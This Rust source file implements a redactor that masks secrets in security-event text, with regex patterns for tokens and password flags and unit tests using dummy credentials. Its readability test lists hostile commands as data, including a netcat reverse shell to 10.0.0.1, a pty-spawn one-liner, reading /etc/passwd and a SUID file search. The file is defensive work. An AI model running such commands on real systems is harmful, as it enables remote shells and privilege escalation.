//! Takes secrets out of the text of Events.
//!
//! More people can read Events than alerts, and command lines carry passwords. What looks like one is written as `***`:
//! values of names that end in a word such as `password`, known forms of tokens, and flags of known programs. A word too
//! many is better than a password; but ordinary command lines must stay readable, so `-p` is judged by its program.
//!
//! Also cuts text: between words, because half a secret may no longer look like one.

use std::{
    borrow::Cow,
    sync::{Arc, LazyLock},
};

use regex::{Regex, RegexBuilder};

/// What is written in place of a secret.
pub const MASK: &str = "***";
/// Longest text that is kept of an output before it is redacted and cut to the size of an Event, in bytes.
pub const MAX_TEXT: usize = 4096;
/// Compiled size of one configured expression, in bytes.
const MAX_COMPILED: usize = 1 << 20;
/// How far back a flag looks for its program, in bytes.
const LOOK_BACK: usize = 256;

/// An expression that cannot be used.
#[derive(Debug, thiserror::Error)]
#[error("`{pattern}` is no regular expression that can be used: {source}; mend it in `events.redact`")]
pub struct RedactError {
    /// The expression.
    pub pattern: Box<str>,
    /// What is wrong with it.
    pub source: regex::Error,
}

/// Takes secrets out: the usual ones, and what is configured.
#[derive(Debug)]
pub struct Redactor {
    extra: Vec<Regex>,
    usual: &'static [Pattern],
}

impl Redactor {
    /// The usual secrets, and whatever matches one of these expressions.
    ///
    /// # Errors
    /// An expression does not compile, or to too large a program.
    pub fn new<'a>(patterns: impl IntoIterator<Item = &'a str>) -> Result<Arc<Self>, RedactError> {
        let compile = |pattern: &'a str| {
            let built = RegexBuilder::new(pattern).size_limit(MAX_COMPILED).dfa_size_limit(MAX_COMPILED).build();
            built.map_err(|source| RedactError { pattern: pattern.into(), source })
        };
        let extra = patterns.into_iter().map(compile).collect::<Result<_, _>>()?;
        Ok(Arc::new(Self { extra, usual: &PATTERNS }))
    }

    /// Only the usual secrets.
    pub fn standard() -> Arc<Self> {
        static STANDARD: LazyLock<Arc<Redactor>> =
            LazyLock::new(|| Arc::new(Redactor { extra: Vec::new(), usual: &PATTERNS }));
        Arc::clone(&STANDARD)
    }

    /// Nothing, for tests that are about other things: expressions are slow where they are not optimised.
    #[cfg(test)]
    pub fn nothing() -> Arc<Self> {
        Arc::new(Self { extra: Vec::new(), usual: &[] })
    }

    /// The text without secrets.
    pub fn redact<'t>(&self, text: &'t str) -> Cow<'t, str> {
        let mut text = Cow::Borrowed(text);
        // What the user names comes first: the usual patterns must not take a part of it away.
        for pattern in &self.extra {
            if let Cow::Owned(changed) = pattern.replace_all(&text, regex::NoExpand(MASK)) {
                text = Cow::Owned(changed);
            }
        }
        for pattern in self.usual {
            if let Some(changed) = pattern.mask(&text) {
                text = Cow::Owned(changed);
            }
        }
        text
    }
}

/// What is kept of a text: at most [`MAX_TEXT`] bytes, cut between words. A last word without an end is left out whole.
pub fn fit(text: &str) -> &str {
    if text.len() <= MAX_TEXT {
        return text;
    }
    let head = text.get(..text.floor_char_boundary(MAX_TEXT)).unwrap_or_default();
    head.rfind(char::is_whitespace).and_then(|end| head.get(..end)).unwrap_or_default()
}

/// Whether a match is a secret.
type Judge = fn(&Found<'_>) -> bool;

/// A form that secrets have. The group `s` is the secret itself.
#[derive(Debug)]
struct Pattern {
    regex: Regex,
    /// Whether the match is one, given what stands before it in the same command, the flag or name, and the secret.
    judge: Judge,
}

/// What a pattern found.
struct Found<'t> {
    /// The command up to the match.
    before: &'t str,
    /// Group `f`: letter of a flag.
    flag: &'t str,
    /// Group `g`: what stands between flag and value.
    gap: &'t str,
    /// Group `s`.
    secret: &'t str,
}

impl Pattern {
    fn mask(&self, text: &str) -> Option<String> {
        let mut out = String::new();
        let mut done = 0;
        for captures in self.regex.captures_iter(text) {
            let (Some(whole), Some(secret)) = (captures.get(0), captures.name("s")) else { continue };
            let group = |name| captures.name(name).map_or("", |found| found.as_str());
            let found = Found {
                before: command_before(text, whole.start()),
                flag: group("f"),
                gap: group("g"),
                secret: secret.as_str(),
            };
            if secret.as_str() == MASK || !(self.judge)(&found) {
                continue;
            }
            out.push_str(text.get(done..secret.start())?);
            out.push_str(MASK);
            done = secret.end();
        }
        if done == 0 {
            return None;
        }
        out.push_str(text.get(done..)?);
        Some(out)
    }
}

/// The part of the command before a place: after the last sign that ends a command, and not further back than a flag
/// may be from its program.
fn command_before(text: &str, end: usize) -> &str {
    let start = text.ceil_char_boundary(end.saturating_sub(LOOK_BACK)).min(end);
    let window = text.get(start..end).unwrap_or_default();
    let begin = window.rfind(['|', ';', '&', '\n', '(', '`']).map_or(0, |at| at + 1);
    window.get(begin..).unwrap_or_default()
}

/// Names of programs in a command: every word without its folder, and without `cmdline=` or a quote before it.
fn programs(before: &str) -> impl Iterator<Item = &str> {
    before.split_whitespace().filter_map(|word| word.rsplit(['/', '=', '"', '\'']).find(|part| !part.is_empty()))
}

/// Programs whose `-p` takes no password.
const PLAIN_P: &[&str] = &[
    "ab",
    "bpftrace",
    "cargo",
    "cp",
    "cpio",
    "crictl",
    "ctr",
    "curl",
    "declare",
    "docker",
    "dpkg",
    "export",
    "fio",
    "gcc",
    "gdb",
    "git",
    "go",
    "gradle",
    "grep",
    "hping3",
    "id",
    "install",
    "ip",
    "ip6tables",
    "iptables",
    "journalctl",
    "kill",
    "kubectl",
    "lsof",
    "make",
    "masscan",
    "mkdir",
    "mkfifo",
    "mount",
    "mvn",
    "nc",
    "ncat",
    "nerdctl",
    "netcat",
    "netstat",
    "nft",
    "nmap",
    "node",
    "nping",
    "npm",
    "npx",
    "nsenter",
    "patch",
    "perf",
    "perl",
    "pg_dump",
    "pgrep",
    "ping",
    "pip",
    "pkill",
    "podman",
    "protoc",
    "ps",
    "psql",
    "pytest",
    "python",
    "python3",
    "read",
    "redis-benchmark",
    "redis-cli",
    "rmdir",
    "rpm",
    "rsync",
    "ruby",
    "runc",
    "scp",
    "sftp",
    "socat",
    "ss",
    "ssh",
    "strace",
    "su",
    "sudo",
    "systemctl",
    "tail",
    "tar",
    "tcpdump",
    "time",
    "tmux",
    "touch",
    "traceroute",
    "trap",
    "tree",
    "unzip",
    "uptime",
    "wrk",
    "xargs",
];
/// Programs whose `-p` takes a password, with or without a gap.
const SECRET_P: &[&str] =
    &["sshpass", "mongo", "mongosh", "mongodump", "mongorestore", "useradd", "usermod", "login", "smbpasswd"];
/// Shells: their own `-p` is a switch.
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash"];

fn any(found: &Found<'_>, known: &[&str]) -> bool {
    programs(found.before).any(|program| known.contains(&program))
}

fn mysql(found: &Found<'_>) -> bool {
    programs(found.before).any(|program| program.starts_with("mysql") || program.starts_with("mariadb"))
}

/// Whether a value is a number, a port mapping, a path, another flag, a variable, or the next field of an output.
fn plain(value: &str) -> bool {
    let field = value.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_lowercase() || matches!(byte, b'_' | b'.'))
    });
    field
        || value.contains('/')
        || value.starts_with(['-', '.', '~', '$', '%', '<', '{'])
        || value.bytes().all(|byte| byte.is_ascii_digit() || matches!(byte, b':' | b',' | b'.' | b'-'))
}

fn short_flag(found: &Found<'_>) -> bool {
    match found.flag {
        "p" if mysql(found) => !found.gap.contains(char::is_whitespace),
        "p" if any(found, SECRET_P) => !found.secret.starts_with('-'),
        "p" => {
            let shell = programs(found.before).last().is_some_and(|program| SHELLS.contains(&program));
            !found.gap.is_empty() && !plain(found.secret) && !any(found, PLAIN_P) && !shell
        }
        "a" => any(found, &["redis-cli", "redis-benchmark"]),
        "w" => programs(found.before).any(|program| program.starts_with("ldap")),
        "P" => any(found, &["sqlcmd", "bcp", "smbget", "mosquitto_pub", "mosquitto_sub"]),
        _ => false,
    }
}

fn user_flag(found: &Found<'_>) -> bool {
    any(found, &["curl", "wget", "http", "https", "httpie", "xh", "smbclient", "rpcclient", "lftp", "ab", "hydra"])
}

/// A value: in quotes, or up to the next space or quote. Quotes may have no end, because the text was cut.
const VALUE: &str = r#"(?:"(?:[^"\\]|\\.)*(?:"|\z)|'[^']*(?:'|\z)|[^\s"']+)"#;
/// Ends of names whose values are secrets.
const NAMES: &str = r"(?:[\w.-]*?(?:password|passwd|passphrase|passcode|secret|token|credentials?|mysql_pwd|(?:api|access|secret|private|account|auth|encryption|signing|shared|license)[_.-]?key)|(?:[\w.-]*[_.-])?(?:pass|pw))";

static PATTERNS: LazyLock<Vec<Pattern>> = LazyLock::new(|| {
    let always: Judge = |_| true;
    let rows: Vec<(String, Judge)> = vec![
        // A private key, and what is left of one that was cut.
        (r"(?s)-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----(?P<s>.*?)(?:-----END|\z)".into(), always),
        // The password of a URL; it may contain `@` itself. And `https://TOKEN@host`.
        (r"(?i)\b[a-z][a-z0-9+.-]*://[^\s/:@]*:(?P<s>[^\s/]+)@".into(), always),
        (r"(?i)\bhttps?://(?P<s>[a-z0-9_-]{20,})@".into(), always),
        // Tokens that can be told by their form: AWS, GitHub, GitLab, Slack, Stripe, Google, JSON Web Tokens.
        (r"\b(?P<s>(?:AKIA|ASIA|AROA)[0-9A-Z]{16})\b".into(), always),
        (
            r"\b(?P<s>(?:gh[pousr]_|github_pat_|glpat-|xox[abeoprs]-|[srp]k_(?:live|test)_)[A-Za-z0-9_-]{10,})".into(),
            always,
        ),
        (r"\b(?P<s>AIza[0-9A-Za-z_-]{30,})".into(), always),
        (r"\b(?P<s>eyJ[A-Za-z0-9_-]{6,}\.[A-Za-z0-9_-]{6,}(?:\.[A-Za-z0-9_-]*)?)".into(), always),
        // Headers.
        (
            format!(
                r#"(?i)\b(?:proxy-)?authorization\s*[:=]\s*["']?(?:(?:basic|bearer|token|digest|negotiate)\s+)?(?P<s>{VALUE})"#
            ),
            always,
        ),
        (r"(?i)\bbearer\s+(?P<s>[a-z0-9._~+/=-]{20,})".into(), always),
        (r#"(?i)\b(?:set-)?cookie:\s*(?P<s>[^"'\n]+)"#.into(), always),
        // NAME=value, "name": "value", --name=value, --from-literal=name=value.
        (format!(r#"(?i)(?:^|[\s"'&?;,{{(\[=]){NAMES}\d*["']?(?:=|\s=\s|:\s?)(?P<s>{VALUE})"#), always),
        (r"[?&]sig=(?P<s>[^\s&]+)".into(), always),
        // --name value.
        (format!(r"(?i)(?:^|\s)--?{NAMES}\s+(?P<s>{VALUE})"), |found| !found.secret.starts_with('-')),
        // Of openssl: pass:value.
        (r"\bpass:(?P<s>[^\s]+)".into(), always),
        // Flags of one letter.
        (format!(r"(?:^|\s)-(?P<f>[paPw])(?P<g>\s+|=|)(?P<s>{VALUE})"), short_flag),
        (
            format!(r#"(?:^|\s)(?:-[a-zA-Z]*[uU]|--user|--proxy-user)(?:\s+|=|)["']?[^\s:"'%]*[:%](?P<s>{VALUE})"#),
            user_flag,
        ),
    ];
    let compile = |(text, judge): (String, Judge)| Pattern {
        regex: Regex::new(&text).expect("the patterns are constants, and a test uses each"),
        judge,
    };
    rows.into_iter().map(compile).collect()
});

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn becomes(text: &str, want: &str) {
        assert_eq!(Redactor::standard().redact(text), want);
    }

    #[test]
    fn secrets_are_masked() {
        let rows = [
            ("mysql -uroot -phunter2 shop", "mysql -uroot -p*** shop"),
            ("/usr/bin/mysqldump -p'a b' x", "/usr/bin/mysqldump -p*** x"),
            ("sshpass -p hunter2 ssh root@h", "sshpass -p *** ssh root@h"),
            ("sshpass -phunter2 ssh root@h", "sshpass -p*** ssh root@h"),
            ("docker login -u me -p hunter2 reg.io", "docker login -u me -p *** reg.io"),
            ("sometool -p hunter2", "sometool -p ***"),
            ("redis-cli -h db -a hunter2 KEYS", "redis-cli -h db -a *** KEYS"),
            ("ldapsearch -x -w hunter2 -b dc=x", "ldapsearch -x -w *** -b dc=x"),
            ("curl -u user:hunter2 http://h", "curl -u user:*** http://h"),
            ("curl -su 'user:hunter2' http://h", "curl -su 'user:***' http://h"),
            ("curl --user user:hunter2 http://h", "curl --user user:*** http://h"),
            ("smbclient //h/s -U user%hunter2", "smbclient //h/s -U user%***"),
            ("app --password=hunter2 --port 80", "app --password=*** --port 80"),
            ("app --password hunter2 --port 80", "app --password *** --port 80"),
            ("app --db-password \"hun ter2\" -v", "app --db-password *** -v"),
            ("app --token 'hun ter2", "app --token ***"),
            ("app --api-key hunter2", "app --api-key ***"),
            ("PGPASSWORD=hunter2 psql", "PGPASSWORD=*** psql"),
            ("env DB_PASS=hunter2 MYSQL_PWD=x run", "env DB_PASS=*** MYSQL_PWD=*** run"),
            ("AWS_SECRET_ACCESS_KEY=abc/def aws s3", "AWS_SECRET_ACCESS_KEY=*** aws s3"),
            (
                "kubectl create secret generic s --from-literal=password=x",
                "kubectl create secret generic s --from-literal=password=***",
            ),
            ("curl -d {\"user\":\"u\",\"password\":\"hun\\\"ter2\"}", "curl -d {\"user\":\"u\",\"password\":***}"),
            ("curl http://h/?token=abc", "curl http://h/?token=***"),
            ("java -Djavax.net.ssl.keyStorePassword=abc X", "java -Djavax.net.ssl.keyStorePassword=*** X"),
            ("psql postgres://u:hunter2@db/shop", "psql postgres://u:***@db/shop"),
            ("redis://:p@ss@h:6379/0", "redis://:***@h:6379/0"),
            (
                "git clone https://ghp_0123456789012345678901234567890123456789@github.com/x",
                "git clone https://***@github.com/x",
            ),
            ("aws AKIAIOSFODNN7EXAMPLE", "aws ***"),
            ("x glpat-abcdefghij0123456789 y", "x *** y"),
            ("k eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc_-9", "k ***"),
            ("curl -H 'Authorization: Bearer abc' h", "curl -H 'Authorization: Bearer ***' h"),
            ("curl -H \"Authorization: Basic dXNlcjpwYXNz\" h", "curl -H \"Authorization: Basic ***\" h"),
            ("x bearer 0123456789abcdef01234", "x bearer ***"),
            ("curl -H 'Cookie: session=abc; x=y' h", "curl -H 'Cookie: ***' h"),
            ("openssl rsa -passin pass:hunter2 -in k", "openssl rsa -passin pass:*** -in k"),
            (
                "echo -----BEGIN RSA PRIVATE KEY-----\nMII\nE\n-----END RSA PRIVATE KEY-----",
                "echo -----BEGIN RSA PRIVATE KEY-----***-----END RSA PRIVATE KEY-----",
            ),
            ("echo -----BEGIN PRIVATE KEY-----\nMII", "echo -----BEGIN PRIVATE KEY-----***"),
            ("AccountName=x;AccountKey=abc==", "AccountName=x;AccountKey=***"),
        ];
        for (text, want) in rows {
            becomes(text, want);
        }
    }

    #[test]
    fn ordinary_command_lines_stay_readable() {
        for text in [
            "mkdir -p foo bar",
            "mkdir -p /var/lib/foo",
            "ssh -p 2222 host",
            "nmap -p 1-1024 -sS 10.0.0.1",
            "docker run -p 8080:80 -u 1000:1000 nginx",
            "iptables -A INPUT -p tcp --dport 22",
            "kubectl logs -p web-0",
            "ps -p 1 -o args",
            "bash -p",
            "command=bash -p terminal=34816 exe_flags=x",
            "find / -perm -4000 -print",
            "gcc -pthread -pipe a.c",
            "git log -p main",
            "mysql -u root -p shop",
            "PWD=/root OLDPWD=/ env",
            "cat /etc/passwd",
            "Sensitive file opened (file=/etc/passwd gparent=x user=root)",
            "cat /etc/passwd: denied",
            "fd.name=/var/run/secrets/kubernetes.io/serviceaccount/token container_id=abc",
            "app --max-tokens=100 --tokenizer bert",
            "app --password-file /run/x --token-file=/run/y --password-stdin",
            "kubectl get secret web -o yaml",
            "compass=north bypass=1",
            "curl -fsSL http://host:8080/path?x=a@b",
            "chown user:group file",
            "basic authentication failed",
            "ls -la | grep password",
            "bearer of bad news",
            "user=root process=sh parent=runc command=sh -c id",
            "nc -e /bin/sh 10.0.0.1 4444",
            "python -c import pty;pty.spawn",
            "passwd root",
            "tail -n 20 -f /var/log/auth.log",
        ] {
            becomes(text, text);
        }
    }

    #[test]
    fn what_is_masked_stays_as_it_is() {
        let once = Redactor::standard().redact("app --password=x PGPASSWORD=y curl -u a:b h").into_owned();
        becomes(&once, &once);
    }

    #[test]
    fn configured_expressions_add_to_the_usual_ones() {
        let redactor = Redactor::new(["EMP-[0-9]+", "\\bcard \\S+"]).expect("these compile");
        assert_eq!(redactor.redact("EMP-123 card 4111 password=x ok"), "*** *** password=*** ok");
    }

    #[test]
    fn a_bad_expression_is_named() {
        let error = Redactor::new(["a(b"]).expect_err("it has no end").to_string();
        assert!(error.starts_with("`a(b` is no regular expression"), "{error}");
        assert!(Redactor::new(["(?:\\w{1000}){1000}"]).is_err(), "too large");
    }

    #[test]
    fn text_is_cut_between_words_so_that_no_half_secret_is_left() {
        let long = format!("{} postgres://u:hunter2@db tail", "x".repeat(MAX_TEXT - 20));
        let kept = fit(&long);
        assert!(kept.ends_with('x'), "{}", &kept[kept.len() - 20..]);
        assert_eq!(fit(&"é".repeat(MAX_TEXT)), "");
        assert_eq!(fit("short"), "short");
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
        #[test]
        fn any_text_is_redacted_without_panic(text in "[ -~\u{e9}\u{1f980}\n]{0,300}") {
            Redactor::standard().redact(&text);
        }
    }

    #[test]
    fn time_is_linear_in_the_text() {
        // Each would take minutes if the work grew with the square of the text at this length.
        for unit in
            ["-p ", "password ", "a:b@", "://x:", "\"", "bearer ", "eyJ", "-----BEGIN PRIVATE KEY-----", "=token"]
        {
            Redactor::standard().redact(&unit.repeat(20_000 / unit.len()));
        }
    }
}
